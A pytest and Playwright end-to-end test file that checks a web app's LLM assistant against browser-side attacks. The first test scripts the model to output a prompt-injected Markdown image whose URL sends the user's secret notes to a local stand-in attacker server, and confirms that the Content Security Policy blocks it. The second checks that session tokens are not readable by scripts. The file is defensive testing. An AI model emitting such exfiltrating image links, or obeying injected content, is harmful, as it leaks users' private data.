"""The web app in real Chromium against attacks on the browser: a prompt-injected Markdown image
that would carry data out, and tokens a script could steal."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import Stack
from tests.e2e.test_web_app import start_lite_task
from tests.e2e.web import log_in
from tests.support.llm_server import ScriptedLLM, text

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]


class Exfiltration:
    """A site on another origin that records every request the browser makes to it."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                recorder.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base_url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def evil() -> Iterator[Exfiltration]:
    site = Exfiltration()
    yield site
    site.server.shutdown()
    site.server.server_close()


def test_a_prompt_injected_markdown_image_does_not_make_the_browser_call_out(
    stack: Stack, llm: ScriptedLLM, page: Page, evil: Exfiltration
) -> None:
    leak = f"{evil.base_url}/pixel.gif?d=the-users-secret-notes"
    llm.push(text(f"Here is your summary.\n\n![chart]({leak})\n\nAll done."))
    refusals: list[str] = []
    page.on(
        "console",
        lambda message: refusals.append(message.text) if "Content Security Policy" in message.text else None,
    )
    log_in(page, stack, "web-carol")

    start_lite_task(page, "Summarise my notes")

    assistant = page.get_by_test_id("message-assistant")
    expect(assistant).to_contain_text("All done.", timeout=20_000)
    image = assistant.locator("img")
    expect(image).to_have_attribute("src", leak)  # rendered: only the policy stands in the way
    page.wait_for_function(
        "() => { const img = document.querySelector('[data-testid=message-assistant] img');"
        " return img !== null && img.complete && img.naturalWidth === 0 }"
    )
    assert evil.paths == []
    assert any(evil.base_url in line and "img-src" in line for line in refusals), refusals


def test_the_web_app_keeps_no_token_where_a_script_could_read_it(stack: Stack, page: Page) -> None:
    log_in(page, stack, "web-dave")

    stored = page.evaluate("() => Object.fromEntries(Object.entries(localStorage))")
    readable_cookies = page.evaluate("() => document.cookie")
    cookies = {c["name"]: c for c in page.context.cookies()}

    assert "anker.access_token" not in stored and "anker.refresh_token" not in stored
    assert not any(value.count(".") == 2 and value.startswith("eyJ") for value in stored.values())  # no JWT
    assert cookies["sessionid"]["httpOnly"] is True
    assert cookies["sessionid"]["sameSite"] == "Lax"
    assert "sessionid" not in readable_cookies
    # The app still works on the cookie alone: the session list and a reload.
    page.reload()
    expect(page.get_by_test_id("composer-input")).to_be_visible()
